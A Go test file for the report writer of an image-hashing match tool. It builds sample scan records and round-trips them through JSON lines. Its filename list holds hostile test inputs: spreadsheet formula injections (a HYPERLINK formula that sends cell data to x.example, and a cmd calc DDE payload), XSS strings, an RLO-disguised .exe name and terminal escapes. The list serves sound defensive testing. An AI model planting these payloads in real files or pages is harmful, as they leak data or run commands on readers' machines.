package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/hashmatch/engine/hashmatch"
)

// awkward are names that did harm somewhere: to a spreadsheet, a page, a terminal, a reader of lines, a table.
var awkward = []string{
	"DCIM/plain.jpg",
	"=HYPERLINK(\"http://x.example/?\"&A1,\"open\").jpg",
	"+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "  =1", "\"'=1", "\t=1", "\r=1", "＝1", "a;=1", "a;\" +1;b", "'=1",
	"<script>alert(1)</script>.png", "\"><img src=x onerror=alert(1)>", "{{.Path}}", "]]>", "</title></style>", "&amp;&#61;",
	"photo\u202egpj.exe", "\u2066a\u2069", "zero\u200bwidth", "no\u00a0break", "line\u2028end",
	"two\nlines,\"quoted\"", "\x1b[2Jclear", "\u009b2J", "nul\x00", "del\x7f",
	"not\xffutf8.jpg", "cut\xe2\x82", "\ufffd real", "back\\slash", `looks\nlike`, "\U000e0041tag",
	strings.Repeat("very/long/", 1000) + "é.jpg",
	"", " ", "ünïcödé/日本語/עברית.jpg", "\"summary\"", `{"scan":{}}`,
}

func hash(t testing.TB, text string) hashmatch.Hash {
	t.Helper()
	h, err := hashmatch.ParseHash(text)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// sampleChance is sound, whatever set it is said of.
func sampleChance() hashmatch.Chance {
	return hashmatch.Chance{
		Files: 30, Entries: 1100, Views: 627, Radius: 52, Bound: 0.01, Model: 6.19e-5, Measured: 0.0123, Seen: 2, Pairs: 1_500_000, Upper: 0.0123, Why: "beyond it <b>",
	}
}

func sampleHeader() Header {
	return Header{
		Tool: "hashmatch (devel)",
		Sets: []SetInfo{
			{"case <7> & co", hashmatch.KnownBad, strings.Repeat("ab", 32), 1200},
			{"=operating system", hashmatch.KnownGood, strings.Repeat("0c", 32), 34567},
		},
		Kinds: []hashmatch.Kind{hashmatch.MD5, hashmatch.SHA1, hashmatch.PDQ, hashmatch.PHash},
		Searches: []hashmatch.Search{
			{Set: "case <7> & co", Kind: hashmatch.MD5, Hashes: 1200, Why: "equal digests"},
			{Set: "case <7> & co", Kind: hashmatch.PDQ, Hashes: 1100, Gated: 12, Radius: 31, Why: "default"},
			{Set: "case <7> & co", Kind: hashmatch.PHash, Hashes: 100, Radius: 4, Why: "set of 100"},
			{Set: "=operating system", Kind: hashmatch.MD5, Hashes: 34567, Why: "equal digests"},
		},
		Views:    "full",
		Thorough: &ThoroughInfo{Radius: 52, Why: "beyond it the model expects more than 0.01 chance matches", Views: 627, Chosen: 30, Of: 41, LookUps: 18810},
		Chance:   []SetChance{{Set: "case <7> & co", Chance: sampleChance()}},
		Quality:  50, Roots: 2, Warnings: []string{"set case <7> & co: 100 entries are matched by phash alone (radius 4)"},
	}
}

// sample returns a record for each awkward name; every outcome is there, and so is every way to match.
func sample(t testing.TB) []hashmatch.Record {
	q, low := 87, 51
	bad := hashmatch.Match{Set: "case <7> & co", Disposition: hashmatch.KnownBad, View: hashmatch.Upright}
	exact, near, weak, good := bad, bad, bad, bad
	exact.Entry, exact.ID, exact.Kind, exact.Tier, exact.Category = 7, "item-7", hashmatch.MD5, hashmatch.ExactWeak, "1"
	exact.Conflict = true
	near.Entry, near.ID, near.Kind, near.Tier, near.Distance, near.Quality, near.EntryQuality = 9, "@item", hashmatch.PDQ, hashmatch.TierA, 12, &q, &low
	weak.Entry, weak.Kind, weak.Tier, weak.Distance, weak.View = 11, hashmatch.PHash, hashmatch.TierC, 4, "mirror"
	good.Set, good.Disposition, good.Kind, good.Tier = "=operating system", hashmatch.KnownGood, hashmatch.MD5, hashmatch.Exact
	near.Second = &hashmatch.Second{Kind: hashmatch.PHash, Distance: 4, Agrees: true}
	doubtful, turned := near, near
	doubtful.Entry, doubtful.Distance, doubtful.Tier, doubtful.Second = 10, 44, hashmatch.TierB, &hashmatch.Second{Kind: hashmatch.DHash, Distance: 20}
	turned.Entry, turned.View, turned.Distance, turned.Tier, turned.Second = 12, "trim+mirror", 30, hashmatch.TierB, nil
	matches := [][]hashmatch.Match{{exact, near}, {near}, {good, weak}, {turned}, {doubtful, near}, {good}}

	var records []hashmatch.Record
	all := hashmatch.Outcomes()
	for i, name := range awkward {
		rec := hashmatch.Record{Root: 1 + i%2, Path: name, Outcome: all[i%len(all)]}
		fp := &rec.Fingerprint
		fp.Size, fp.Format = int64(i*i*i*1000), hashmatch.FormatOther
		if i%3 == 0 {
			fp.Format, fp.Width, fp.Height, fp.Decoder = "jpeg", 640, 480, "some decoder"
			fp.Digests = []hashmatch.Hash{hash(t, "md5:"+strings.Repeat(fmt.Sprintf("%02x", i), 16))}
			if i%2 == 0 {
				fp.Digests = append(fp.Digests, hash(t, "sha256:"+strings.Repeat(fmt.Sprintf("%02x", i), 32)))
			}
			fp.Hashes = []hashmatch.PictureHash{
				{Hash: hash(t, "pdq:"+strings.Repeat(fmt.Sprintf("%02x", i), 32)), View: hashmatch.Upright, Quality: hashmatch.QualityOf(i)},
				{Hash: hashmatch.Hash64(hashmatch.PHash, uint64(i)), View: hashmatch.Upright, Quality: hashmatch.QualityOf(i)},
			}
			fp.ThumbnailDiffers = i%4 == 0
			if i%15 == 0 {
				fp.Partial = 0.725
				fp.Hashes = append(fp.Hashes, hashmatch.PictureHash{
					Hash: hash(t, "pdq:"+strings.Repeat("5a", 32)), View: "trim+mirror", Quality: hashmatch.QualityOf(60), Graphic: true,
				})
			}
		}
		switch {
		case i%5 == 0:
			rec.Outcome, rec.Matches = hashmatch.Matched, matches[(i/5)%len(matches)]
			if i%2 == 0 {
				rec.Fault, rec.Error = hashmatch.Corrupt, "media: corrupt: "+name
			}
			if i == 15 {
				rec.More = 1234
			}
		case rec.Outcome == hashmatch.Matched:
			rec.Matches = matches[1]
		case rec.Outcome == hashmatch.Changed:
			rec.Matches, rec.Error = matches[1], "changed while it was read"
		case rec.Outcome.Trouble():
			rec.Error = "open " + name + ": it did not work"
		}
		records = append(records, rec)
	}
	return records
}

// results writes records as JSON lines, and chance with their summary.
func results(t testing.TB, h Header, records []hashmatch.Record, chance ...SetChance) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := NewJSONL(&b, h)
	if err != nil {
		t.Fatal(err)
	}
	var tally hashmatch.Tally
	for i := range records {
		tally.Seen++
		tally.Add(&records[i])
		if err := w.Write(&records[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(tally, chance...); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// readAll reads results to their end.
func readAll(data []byte) (h Header, records []hashmatch.Record, tally hashmatch.Tally, err error) {
	r, err := Read(bytes.NewReader(data))
	if err != nil {
		return h, nil, tally, err
	}
	for rec, err := range r.Records() {
		if err != nil {
			return r.Header, records, tally, err
		}
		records = append(records, rec)
	}
	tally, err = r.Summary()
	return r.Header, records, tally, err
}

// randomName returns a name of characters that matter to some writer.
func randomName(r *rand.Rand) string {
	var b strings.Builder
	for range r.IntN(6) {
		b.WriteString(awkward[r.IntN(len(awkward)-6)])
		if r.IntN(2) == 0 {
			b.WriteByte(byte(r.IntN(256)))
		} else {
			b.WriteRune(rune(r.IntN(0x110000)))
		}
	}
	return b.String()
}

// randomRecord returns a record that a scan of roots may have made.
func randomRecord(t testing.TB, r *rand.Rand, roots int) hashmatch.Record {
	all := hashmatch.Outcomes()
	rec := hashmatch.Record{Root: r.IntN(roots + 1), Path: randomName(r), Outcome: all[r.IntN(len(all))]}
	rec.Fingerprint.Size = r.Int64N(1 << 40)
	if r.IntN(2) == 0 {
		rec.Fingerprint.Format, rec.Fingerprint.Width = "png", r.IntN(5000)
		rec.Fingerprint.Hashes = []hashmatch.PictureHash{{Hash: hashmatch.Hash64(hashmatch.AHash, r.Uint64()), View: hashmatch.Upright, Graphic: r.IntN(2) == 0}}
		rec.Fingerprint.ThumbnailDiffers = r.IntN(3) == 0
		if r.IntN(3) == 0 {
			rec.Fingerprint.Partial = r.Float64()
		}
	}
	if rec.Outcome == hashmatch.Matched {
		kinds := hashmatch.Kinds()
		for range 1 + r.IntN(3) {
			k := kinds[r.IntN(len(kinds))]
			var second *hashmatch.Second
			if k == hashmatch.PDQ || r.IntN(9) == 0 && k != hashmatch.PyDHash {
				second = &hashmatch.Second{Kind: hashmatch.PyDHash, Distance: r.IntN(65), Agrees: r.IntN(2) == 0}
			}
			quality := r.IntN(101)
			rec.Matches = append(rec.Matches, hashmatch.Match{
				Second: second, Quality: &quality,
				Set: "s", Disposition: hashmatch.Disposition(1 + r.IntN(3)), Entry: r.Uint32(), Kind: k, Distance: r.IntN(k.Bits() + 1),
				View: hashmatch.Upright, Tier: hashmatch.Tier(1 + r.IntN(5)), ID: strings.ToValidUTF8(randomName(r), "?"),
			})
		}
		rec.More = r.IntN(3)
	}
	if rec.Trouble() {
		rec.Error = strings.ToValidUTF8(randomName(r), "?")
	}
	return rec
}

// oneLine decodes a line of JSON into anything.
func oneLine(t testing.TB, line []byte) (v any) {
	t.Helper()
	if err := json.Unmarshal(line, &v); err != nil {
		t.Fatalf("%q: %v", line, err)
	}
	return v
}
